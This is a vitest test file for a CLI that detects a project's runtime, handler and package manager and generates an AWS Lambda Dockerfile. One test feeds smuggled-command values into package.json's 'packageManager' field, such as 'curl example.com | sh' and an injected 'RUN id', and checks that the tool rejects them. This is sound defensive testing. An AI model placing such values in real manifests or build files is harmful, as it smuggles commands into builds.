/**
 * Adding a Dockerfile to existing code: the folder's manifests and sources decide the runtime,
 * the handler and the build tool; --yes takes them, and no sample file is written over the code.
 */
import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { detectProject, handlerProblem, nodeExports } from '../../src/inputs/detect';
import { finalStage, parseStages } from '../support/dockerfile';
import { run, snapshotTree, tempDir, TODAY } from '../support/run';
import { readFileSync } from 'node:fs';
import { PACKAGE_MANAGER_TOOLS } from '../../src/catalog/package-managers';

function tree(files: Record<string, string>): string {
  const dir = tempDir('detect-');
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  return dir;
}

/** Runs `create . --yes` in the folder; returns what it added and the Dockerfile's CMD. */
async function yesIn(dir: string, extra: string[] = []) {
  const before = snapshotTree(dir);
  const result = await run(['.', '--yes', '--no-lint', ...extra], { cwd: dir });
  const after = snapshotTree(dir);
  const added = Object.keys(after).filter((f) => !(f in before)).sort();
  const changed = Object.keys(before).filter((f) => after[f] !== before[f]);
  const dockerfile = after.Dockerfile ?? '';
  const cmd = dockerfile ? finalStage(dockerfile).instructions.find((i) => i.keyword === 'CMD') : undefined;
  return { result, added, changed, dockerfile, cmd: cmd?.json ?? null };
}

describe('detecting existing code', () => {
  it('a Python project (requirements.txt + app.py with def handler): --yes writes only Dockerfile and .dockerignore, CMD app.handler', async () => {
    const dir = tree({ 'requirements.txt': 'requests==2.32.3\n', 'app.py': 'import json\n\ndef handler(event, context):\n    return {"ok": True}\n' });
    const { result, added, changed, dockerfile, cmd } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    expect(changed).toEqual([]);
    expect(cmd).toEqual(['app.handler']);
    expect(finalStage(dockerfile).from).toMatch(/^public\.ecr\.aws\/lambda\/python:3\.\d+$/);
    expect(result.stderr).toMatch(/Found a Python project \(requirements\.txt, app\.py: def handler\)/);
    expect(result.stderr).not.toMatch(/warning: the handler/);
  });

  it('a Node.js project with pnpm: --yes writes only Dockerfile and .dockerignore, the handler from index.mjs, the engines version', async () => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'orders', type: 'module', engines: { node: '22.x' }, packageManager: 'pnpm@9.15.0' }),
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
      'index.mjs': 'export const handler = async (event) => ({ statusCode: 200 });\n',
    });
    const { result, added, dockerfile, cmd } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    expect(cmd).toEqual(['index.handler']);
    expect(finalStage(dockerfile).from).toBe('public.ecr.aws/lambda/nodejs:22');
    expect(result.stderr).toContain('pnpm-lock.yaml');
    // It installs with pnpm, at the version package.json names, from the lockfile.
    const build = parseStages(dockerfile).find((s) => s.name === 'build')!;
    const runs = build.instructions.filter((i) => i.keyword === 'RUN').map((i) => i.text);
    expect(runs.some((r) => /\bnpm install -g --prefix \/opt\/pnpm --no-audit --no-fund pnpm@9\.15\.0$/.test(r))).toBe(true);
    expect(runs.some((r) => /\bpnpm install --frozen-lockfile --prod\b/.test(r))).toBe(true);
    expect(runs.some((r) => /\bnpm ci\b/.test(r))).toBe(false);
    expect(build.instructions.filter((i) => i.keyword === 'COPY').map((i) => i.args)).toContain('package.json pnpm-lock.yaml ./');
    expect(result.stderr).not.toMatch(/installs with npm/);
    expect(JSON.parse(dockerfile.split('\n')[1]!.replace('# create-lambda-image options: ', '')).packageManager).toBe('pnpm@9.15.0');
  });

  const managerRuns = (dockerfile: string): string[] =>
    parseStages(dockerfile).find((s) => s.name === 'build')!.instructions.filter((i) => i.keyword === 'RUN').map((i) => i.text);

  it('a pnpm project with only a lockfile and an exported handler: --yes, linted, installs with the catalog pnpm', async () => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'orders', dependencies: { lodash: '4.18.1' } }),
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
      'index.js': 'exports.handler = async () => ({ ok: true });\n',
    });
    const before = snapshotTree(dir);
    const result = await run(['.', '--yes', '--hadolint', 'off'], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    const after = snapshotTree(dir);
    expect(Object.keys(after).filter((f) => !(f in before)).sort()).toEqual(['.dockerignore', 'Dockerfile']);
    const runs = managerRuns(after.Dockerfile!);
    expect(runs.some((r) => new RegExp(`--prefix /opt/pnpm --no-audit --no-fund pnpm@${PACKAGE_MANAGER_TOOLS.find((t) => t.id === 'pnpm')!.version.replace(/\./g, '\\.')}$`).test(r))).toBe(true);
    expect(runs.some((r) => /pnpm install --frozen-lockfile --prod/.test(r))).toBe(true);
    expect(after['.dockerignore']!.split('\n')).toContain('.pnpm-store');
  });

  it('a Yarn 1 project (yarn.lock, "packageManager": "yarn@1.22.22"): --yes installs with that Yarn, frozen, production only', async () => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'orders', packageManager: 'yarn@1.22.22', dependencies: { lodash: '4.18.1' } }),
      'yarn.lock': '# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n',
      'index.mjs': 'export const handler = async () => ({ ok: true });\n',
    });
    const { result, added, dockerfile, cmd } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    expect(cmd).toEqual(['index.handler']);
    const runs = managerRuns(dockerfile);
    expect(runs.some((r) => /--prefix \/opt\/yarn-classic --no-audit --no-fund yarn@1\.22\.22$/.test(r))).toBe(true);
    expect(runs.some((r) => /yarn install --frozen-lockfile --production/.test(r))).toBe(true);
  });

  it('a Yarn 4 project (yarn.lock with __metadata, .yarnrc.yml, .yarn/releases): Yarn 4 from npm, immutable, node_modules', async () => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'orders', packageManager: 'yarn@4.5.0+sha512.837566d24eec14ec0f5f1411adb544e892b3454255e61fdef8fd05f3429480102806bac7446bc9daff3896b01ae4b62d00096c7e989f1596f2af10b927532f39' }),
      'yarn.lock': '__metadata:\n  version: 8\n  cacheKey: 10c0\n',
      '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.5.0.cjs\nnodeLinker: pnp\n',
      '.yarn/releases/yarn-4.5.0.cjs': '// release\n',
      'index.mjs': 'export const handler = async () => ({ ok: true });\n',
    });
    const { result, added, dockerfile } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    const runs = managerRuns(dockerfile);
    expect(runs.some((r) => /--no-audit --no-fund @yarnpkg\/cli-dist@4\.5\.0$/.test(r))).toBe(true);
    expect(runs.some((r) => /yarn install --immutable --mode=skip-build/.test(r))).toBe(true);
    expect(dockerfile).toMatch(/^ENV YARN_NODE_LINKER=node-modules /m);
    expect(dockerfile).toMatch(/^COPY package\.json yarn\.lock \.yarnrc\.yml \.\/$/m);
    expect(dockerfile).toMatch(/^COPY \.yarn\/releases\/ \.\/\.yarn\/releases\/$/m);
    // check regenerates from the header (packageManager yarn@4.5.0) and the folder: no drift.
    const check = await run(['check', '.'], { cwd: dir });
    expect(check.code, `${check.stdout}\n${check.stderr}`).toBe(0);
  });

  it('a Yarn 2+ lockfile without "packageManager" gets the catalog Yarn 4, a classic one Yarn 1', () => {
    const berry = detectProject(tree({ 'package.json': '{}', 'yarn.lock': '# generated\n\n__metadata:\n  version: 8\n', 'index.js': 'exports.handler = 1;\n' }), TODAY)!;
    expect(berry.packageManagerValue).toBe(`yarn@${PACKAGE_MANAGER_TOOLS.find((t) => t.id === 'yarn-berry')!.version}`);
    const classic = detectProject(tree({ 'package.json': '{}', 'yarn.lock': '# yarn lockfile v1\n', 'index.js': 'exports.handler = 1;\n' }), TODAY)!;
    expect(classic.packageManagerValue).toBe('yarn');
    const npm = detectProject(tree({ 'package.json': '{"packageManager":"npm@10.9.0"}', 'package-lock.json': '{}', 'index.js': 'exports.handler = 1;\n' }), TODAY)!;
    expect(npm.packageManagerValue).toBeUndefined();
  });

  it.each([
    ['pnpm@9.15.4; curl example.com | sh'],
    ['pnpm@latest'],
    ['yarn@4.5.0+sha512.not-hex'],
    ['pnpm@9.15.4\nRUN id'],
  ])('a hostile "packageManager" (%j) is refused in one line, exit 2, nothing written', async (field) => {
    const dir = tree({
      'package.json': JSON.stringify({ name: 'orders', packageManager: field }),
      [field.startsWith('pnpm') ? 'pnpm-lock.yaml' : 'yarn.lock']: '',
      'index.mjs': 'export const handler = async () => 1;\n',
    });
    const before = snapshotTree(dir);
    const result = await run(['.', '--yes', '--hadolint', 'off'], { cwd: dir });
    expect(result.code).toBe(2);
    const errors = result.stderr.split('\n').filter((l) => /^(create-lambda-image: )?error/i.test(l) || /package\.json "packageManager"/.test(l));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/package\.json "packageManager": .* is not npm, pnpm or yarn/);
    expect(snapshotTree(dir)).toEqual(before);
  });

  it('--package-manager bun is refused in one line, exit 2', async () => {
    const dir = tree({ 'package.json': '{}', 'index.mjs': 'export const handler = async () => 1;\n' });
    const before = snapshotTree(dir);
    const result = await run(['.', '--yes', '--package-manager', 'bun', '--hadolint', 'off'], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n').filter((l) => /bun/.test(l))).toHaveLength(1);
    expect(result.stderr).toMatch(/--package-manager: bun is not supported/);
    expect(snapshotTree(dir)).toEqual(before);
  });

  it('--package-manager pnpm in a project whose package.json names a hostile pnpm version: the error names package.json', async () => {
    const dir = tree({ 'package.json': '{"packageManager":"pnpm@9.15.4 && id"}', 'pnpm-lock.yaml': '', 'index.mjs': 'export const handler = async () => 1;\n' });
    const before = snapshotTree(dir);
    const result = await run(['.', '--yes', '--package-manager', 'pnpm', '--hadolint', 'off'], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^create-lambda-image: package\.json "packageManager": "pnpm@9\.15\.4 && id" is not npm, pnpm or yarn/m);
    expect(snapshotTree(dir)).toEqual(before);
  });

  it('--package-manager pnpm in a project whose package.json names pnpm@9.15.4 installs 9.15.4', async () => {
    const dir = tree({ 'package.json': '{"packageManager":"pnpm@9.15.4"}', 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n", 'index.mjs': 'export const handler = async () => 1;\n' });
    const { result, dockerfile } = await yesIn(dir, ['--package-manager', 'pnpm']);
    expect(result.code, result.stderr).toBe(0);
    expect(managerRuns(dockerfile).some((r) => /pnpm@9\.15\.4$/.test(r))).toBe(true);
  });

  it('a Maven project: Java from pom.xml, the handler from the class implementing RequestHandler', async () => {
    const dir = tree({
      'pom.xml': '<project><properties><maven.compiler.release>21</maven.compiler.release></properties></project>\n',
      'src/main/java/com/acme/orders/OrderHandler.java': [
        'package com.acme.orders;',
        'import com.amazonaws.services.lambda.runtime.Context;',
        'import com.amazonaws.services.lambda.runtime.RequestHandler;',
        'public class OrderHandler implements RequestHandler<Object, String> {',
        '  public String handleRequest(Object input, Context context) { return "ok"; }',
        '}',
        '',
      ].join('\n'),
    });
    const { result, added, dockerfile, cmd } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    expect(cmd).toEqual(['com.acme.orders.OrderHandler::handleRequest']);
    expect(finalStage(dockerfile).from).toBe('public.ecr.aws/lambda/java:21');
    expect(parseStages(dockerfile)[0]!.from).toMatch(/maven/);
  });

  it('a Go module calling lambda.Start: the OS-only base and a bootstrap binary', async () => {
    const dir = tree({
      'go.mod': 'module example.com/orders\n\ngo 1.23\n',
      'go.sum': '',
      'main.go': 'package main\n\nimport "github.com/aws/aws-lambda-go/lambda"\n\nfunc main() { lambda.Start(handle) }\n',
    });
    const { result, added, dockerfile } = await yesIn(dir);
    expect(result.code, result.stderr).toBe(0);
    expect(added).toEqual(['.dockerignore', 'Dockerfile']);
    expect(finalStage(dockerfile).from).toMatch(/^public\.ecr\.aws\/lambda\/provided:al2023/);
    expect(result.stderr).toMatch(/Found a Go project \(go\.mod, main\.go: lambda\.Start\)/);
  });

  it('flags still win over what was found', async () => {
    const dir = tree({ 'requirements.txt': '', 'app.py': 'def handler(event, context):\n    return 1\n' });
    const { result, cmd, dockerfile } = await yesIn(dir, ['--runtime', 'python3.12', '--handler', 'app.handler']);
    expect(result.code, result.stderr).toBe(0);
    expect(cmd).toEqual(['app.handler']);
    expect(finalStage(dockerfile).from).toBe('public.ecr.aws/lambda/python:3.12');
  });

  it('a handler that names no existing file or function is a warning before writing', async () => {
    const dir = tree({ 'requirements.txt': '', 'app.py': 'def handler(event, context):\n    return 1\n' });
    const missingFile = await run(['.', '--yes', '--no-lint', '--runtime', 'python3.13', '--handler', 'main.handler'], { cwd: dir });
    expect(missingFile.code).toBe(0);
    expect(missingFile.stderr).toMatch(/warning: the handler main\.handler names main\.py, which the folder does not have/);
    const dir2 = tree({ 'requirements.txt': '', 'app.py': 'def handler(event, context):\n    return 1\n' });
    const missingFn = await run(['.', '--yes', '--no-lint', '--handler', 'app.main'], { cwd: dir2 });
    expect(missingFn.stderr).toMatch(/warning: the handler app\.main: app\.py has no function main/);
    // The warning comes before the files are reported written.
    expect(missingFn.stderr.indexOf('warning: the handler')).toBeGreaterThanOrEqual(0);
    expect(readdirSync(dir2)).toContain('Dockerfile');
  });

  it('recognises versions, lockfiles and handlers per ecosystem', () => {
    const py = detectProject(tree({ 'pyproject.toml': '[project]\nrequires-python = ">=3.12"\n', 'uv.lock': '', 'lambda_function.py': 'def lambda_handler(event, context):\n  pass\n' }), TODAY)!;
    expect(py).toMatchObject({ language: 'python', pythonTool: 'uv', handler: 'lambda_function.lambda_handler' });
    expect(py.runtime).toMatch(/^python3\.1[2-9]$/);
    expect(py.notes.join()).toMatch(/uv export/);
    expect(detectProject(tree({ 'pyproject.toml': '[tool.poetry]\nname = "x"\n', 'poetry.lock': '', '.python-version': '3.12\n' }), TODAY)).toMatchObject({ pythonTool: 'poetry', runtime: 'python3.12' });
    expect(detectProject(tree({ 'package.json': '{"engines":{"node":">=20"}}', 'yarn.lock': '', 'index.js': 'exports.handler = async () => 1;\n' }), TODAY)).toMatchObject({
      language: 'nodejs', runtime: 'nodejs24', packageManager: 'yarn', handler: 'index.handler',
    });
    expect(detectProject(tree({ 'package.json': '{"devDependencies":{"typescript":"5.9.0"}}', 'tsconfig.json': '{}', 'src/index.ts': 'export async function handler() {}\n' }), TODAY)).toMatchObject({
      language: 'nodejs', typescript: true, handler: 'index.handler',
    });
    expect(detectProject(tree({ 'build.gradle.kts': 'java { toolchain { languageVersion = JavaLanguageVersion.of(17) } }\n' }), TODAY)).toMatchObject({ language: 'java', buildTool: 'gradle' });
    expect(detectProject(tree({ 'Cargo.toml': '[dependencies]\nlambda_runtime = "0.13"\n' }), TODAY)).toMatchObject({ language: 'rust', base: 'os-only', runtime: 'rust' });
    expect(detectProject(tree({ Gemfile: '', 'app.rb': 'def lambda_handler(event:, context:)\nend\n' }), TODAY)).toMatchObject({ language: 'ruby', handler: 'app.lambda_handler' });
    expect(detectProject(tree({ 'Orders.csproj': '<Project><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>', 'Function.cs': 'namespace Orders;\npublic class Function {\n public string Handle(string input, ILambdaContext context) => input;\n}\n' }), TODAY)).toMatchObject({
      language: 'dotnet', runtime: 'dotnet10', handler: 'Orders::Orders.Function::Handle',
    });
    expect(detectProject(tempDir('empty-'), TODAY)).toBeUndefined();
    expect(detectProject(join(tempDir(), 'missing'), TODAY)).toBeUndefined();
  });

  it('never follows a symbolic link out of the folder', () => {
    const outside = tree({ 'app.py': 'def handler(event, context):\n  pass\n', 'package.json': '{}' });
    const dir = tree({ 'requirements.txt': '' });
    symlinkSync(join(outside, 'app.py'), join(dir, 'app.py'));
    symlinkSync(outside, join(dir, 'src'));
    const found = detectProject(dir, TODAY)!;
    expect(found.language).toBe('python');
    expect(found.handler).toBeUndefined();
    expect(handlerProblem(dir, 'python', 'app.handler', false)).toMatch(/does not have/);
    // A link named like a manifest is no manifest.
    const linked = tempDir('detect-');
    symlinkSync(join(outside, 'package.json'), join(linked, 'package.json'));
    expect(detectProject(linked, TODAY)).toBeUndefined();
  });

  it('reads a large file only up to its limit', () => {
    const dir = tree({ 'requirements.txt': '', 'app.py': `${'# padding\n'.repeat(40_000)}def handler(event, context):\n  pass\n` });
    expect(readFileSync(join(dir, 'app.py')).length).toBeGreaterThan(256 * 1024);
    expect(detectProject(dir, TODAY)!.handler).toBeUndefined();
  });

  it('nodeExports reads the usual export forms', () => {
    expect(nodeExports('export const handler = 1; export async function other() {}').sort()).toEqual(['handler', 'other']);
    expect(nodeExports('const a = 1; export { a as handler };')).toEqual(['handler']);
    expect(nodeExports('module.exports = { handler, b: 2 };')).toEqual(['handler', 'b']);
    expect(nodeExports('exports.handler = async () => {};')).toEqual(['handler']);
  });
});

describe('several manifests', () => {
  it('a package.json for tooling beside Python code: the language with a handler wins', () => {
    const dir = tree({ 'package.json': '{"devDependencies":{"prettier":"3.0.0"}}', 'requirements.txt': '', 'app.py': 'def handler(event, context):\n  pass\n' });
    expect(detectProject(dir, TODAY)).toMatchObject({ language: 'python', handler: 'app.handler' });
    const node = tree({ 'package.json': '{}', 'index.js': 'exports.handler = async () => 1;\n', 'scripts/tool.py': 'print(1)\n' });
    expect(detectProject(node, TODAY)).toMatchObject({ language: 'nodejs', handler: 'index.handler' });
  });
});
